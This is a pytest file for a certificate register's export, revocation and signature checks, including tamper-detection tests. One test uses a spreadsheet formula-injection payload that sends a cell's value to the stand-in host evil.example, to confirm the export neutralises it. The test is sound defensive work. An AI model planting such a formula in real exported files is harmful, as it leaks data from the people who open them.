"""The register: every certificate recorded, exported for a recognition body, revocations honoured."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime

import pytest
from cert_helpers import ISSUED, ISSUER, SELF, VALIDATED, progress_achievement, tier_achievement

from trainer.config import Paths
from trainer.domain.roster import unguard_cell
from trainer.services.certificates import keys, register
from trainer.services.certificates.errors import UnknownCertificate
from trainer.services.certificates.verify import verify_credential, verify_qr

NOW = datetime(2024, 6, 1, tzinfo=UTC)


@pytest.fixture
def two(service, signing_key, learner):
    first = service.issue(signing_key, ISSUER, learner, tier_achievement(), VALIDATED, now=ISSUED)
    second = service.issue(signing_key, ISSUER, learner, progress_achievement(), SELF, now=ISSUED)
    return first, second


def test_export_csv_and_json_and_read_them_back(service, two, signing_key, tmp_path):
    service.revoke(two[1].id, "issued to the wrong learner", now=NOW)
    out_csv = service.export_register(tmp_path / "register.csv", signing_key, ISSUER)
    raw = out_csv.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: spreadsheet programs then read the Chinese
    by_id = {r["certificate_id"]: r for r in csv.DictReader(raw.decode("utf-8-sig").splitlines())}
    rows = [by_id[two[0].id], by_id[two[1].id]]
    assert (
        len(by_id) == 2
        and rows[0]["learner_name"] == "王秀英"
        and rows[0]["status"] == "valid"
        and rows[0]["tier"] == "basic"
    )
    assert rows[1]["status"] == "revoked" and rows[1]["revoke_reason"] == "issued to the wrong learner"
    # (a hash that starts with "-" is written with the formula guard's apostrophe in front)
    assert unguard_cell(rows[0]["credential_hash"]) == two[0].qr_text.split("|")[-2]
    out_json = service.export_register(tmp_path / "register.json", signing_key, ISSUER)
    doc = json.loads(out_json.read_text(encoding="utf-8"))
    assert doc["issuer"]["code"] == "HZ-001" and doc["issuer"]["fingerprint"]
    ids = {r["certificate_id"]: r["credential_id"] for r in doc["certificates"]}
    assert ids[two[0].id] == two[0].credential["id"]
    for path in (out_csv, out_json):
        loaded = register.load(path, [signing_key.public])
        assert loaded.get(two[1].id).revoked and not loaded.get(two[0].id).revoked
        assert loaded.signer == signing_key.public and loaded.exported_at[:4] == str(datetime.now(UTC).year)
    with pytest.raises(ValueError):
        service.export_register(tmp_path / "register.txt", signing_key)


def test_verification_with_the_register_reports_revocation(service, two, signing_key, tmp_path):
    trusted = [signing_key.public]
    assert verify_credential(two[0].jwt, trusted, register=service.local_register(), now=NOW).valid
    service.revoke(two[0].id, "tutor withdrew the sign-off", now=NOW)
    reg = register.load(service.export_register(tmp_path / "r.json", signing_key), trusted)
    verdict = verify_credential(two[0].jwt, trusted, register=reg, now=NOW)
    assert not verdict.valid and verdict.reason == (
        f"certificate {two[0].id} was revoked on 2024-06-01: tutor withdrew the sign-off"
    )
    qr_verdict = verify_qr(two[0].qr_text, trusted, register=reg, now=NOW)
    assert not qr_verdict.valid and "revoked" in qr_verdict.reason
    assert verify_credential(two[1].jwt, trusted, register=reg, now=NOW).valid


def test_a_certificate_missing_from_an_older_register_is_valid_with_a_note(two, signing_key):
    older = register.Register({}, "2024-05-01T00:00:00Z")
    verdict = verify_credential(two[0].jwt, [signing_key.public], register=older, now=NOW)
    assert verdict.valid and verdict.notes == (
        "not in the register (exported 2024-05-01); it may be newer than the register",
    )


def test_a_register_listing_another_credential_under_the_id_is_a_warning_sign(two, signing_key):
    fake = register.Register({two[0].id: register.Entry(two[0].id, "X" * 43)})
    verdict = verify_credential(two[0].jwt, [signing_key.public], register=fake, now=NOW)
    assert not verdict.valid and "different credential" in verdict.reason


def test_revoking_needs_a_known_id_and_a_reason_and_keeps_the_first(service, two):
    with pytest.raises(UnknownCertificate):
        service.revoke("ZZZZ-ZZZZ-ZZZZ", "x")
    with pytest.raises(ValueError):
        service.revoke(two[0].id, "  ")
    first = service.revoke(two[0].id.lower(), "first reason", now=NOW)
    again = service.revoke(two[0].id, "second reason")
    assert again.revoked_at == first.revoked_at == NOW and again.revoke_reason == "first reason"


def test_the_register_outlives_the_learner(service, two, db, learner):
    from trainer.storage.repositories import LearnerRepository

    LearnerRepository(db).delete(learner.id)
    records = service.register()
    assert [r.learner_id for r in records] == [None, None] and records[0].learner_name == "王秀英"


def test_undoing_a_revocation_in_the_file_is_detected(service, two, signing_key, tmp_path):
    """The audit's attack: edit "revoked" back to "valid" in the exported register."""
    service.revoke(two[0].id, "issued by mistake", now=NOW)
    for name in ("r.csv", "r.json"):
        out = service.export_register(tmp_path / name, signing_key, ISSUER)
        raw = out.read_bytes()
        edited = raw.replace(b'"status": "revoked"', b'"status": "valid"').replace(b",revoked,", b",valid,")
        edited = edited.replace(b"issued by mistake", b"").replace(NOW.strftime("%Y-%m-%d").encode(), b"")
        assert edited != raw
        out.write_bytes(edited)
        with pytest.raises(register.RegisterError, match="changed after the centre signed it"):
            register.load(out, [signing_key.public])
        register.signature_file(out).unlink()
        with pytest.raises(register.RegisterError, match="not signed"):
            register.load(out, [signing_key.public])


def test_another_centres_register_is_refused(service, two, signing_key, tmp_path):
    other_paths = Paths(data=tmp_path / "other", cache=tmp_path / "other")
    other_info = keys.create_signing_key(other_paths, "another centre's passphrase")
    other = keys.load_signing_key(other_paths, "another centre's passphrase")
    out = register.export([], tmp_path / "other.json", other, {"name": "别的中心"})
    with pytest.raises(register.RegisterError, match="key you do not trust"):
        register.load(out, [signing_key.public])
    foreign = register.load(out, [signing_key.public, other_info])  # the verifier trusts both centres
    verdict = verify_credential(two[0].jwt, [signing_key.public, other_info], register=foreign, now=NOW)
    assert not verdict.valid and "another centre's" in verdict.reason
    qr_verdict = verify_qr(two[0].qr_text, [signing_key.public, other_info], register=foreign, now=NOW)
    assert not qr_verdict.valid and "another centre's" in qr_verdict.reason


def test_a_reason_that_looks_like_a_formula_is_written_as_text(service, two, signing_key, tmp_path):
    reason = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    service.revoke(two[0].id, reason, now=NOW)
    out = service.export_register(tmp_path / "register.csv", signing_key, ISSUER)
    rows = list(csv.reader(out.read_bytes().decode("utf-8-sig").splitlines()))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + reason in cells and reason not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    assert register.load(out, [signing_key.public]).get(two[0].id).revoke_reason == reason  # read back as is
